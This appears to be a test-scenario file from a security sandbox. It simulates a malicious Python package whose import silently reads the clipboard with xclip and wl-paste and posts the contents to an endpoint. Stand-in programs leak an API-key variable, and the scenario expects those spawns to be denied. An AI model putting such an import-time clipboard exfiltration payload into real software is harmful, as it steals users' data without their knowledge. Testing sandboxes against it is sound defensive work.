"""The clipboard, read by the desktop's own programs: fernets, netping."""

from payloads import app, quietly
from scenario import Expected, Scenario
from support.wheels import Wheel

READ = """
import shutil, subprocess
for command in (["xclip", "-o"], ["wl-paste"]):
    try:
        send("/clipboard", subprocess.run(command, capture_output=True, timeout=10).stdout)
    except OSError:
        pass
"""
STAND_IN = '#!/bin/sh\ntest -e ~/.canary-home && : > ~/clipboard-{0}.mark\necho "$ACME_API_KEY"\n'

SCENARIOS = (
    Scenario(
        row=29,
        story="importing the package asks two programs for the clipboard and posts what they say",
        models=("fernets", "netping", "aiolrucache"),
        techniques=("T1195.002", "T1115", "T1041"),
        wheels=(Wheel("acme-netping", "0.2.9", {"acme_netping.py": quietly(READ)}),),
        app=app("import acme_netping"),
        programs={"xclip": STAND_IN.format("x"), "wl-paste": STAND_IN.format("wl")},
        achieves=("leaked:variable", "wrote:home/clipboard-x.mark", "wrote:home/clipboard-wl.mark"),
        denied=(
            Expected("proc.spawn", "acme-netping", "import", "*/xclip"),
            Expected("proc.spawn", "acme-netping", "import", "*/wl-paste"),
        ),
    ),
)
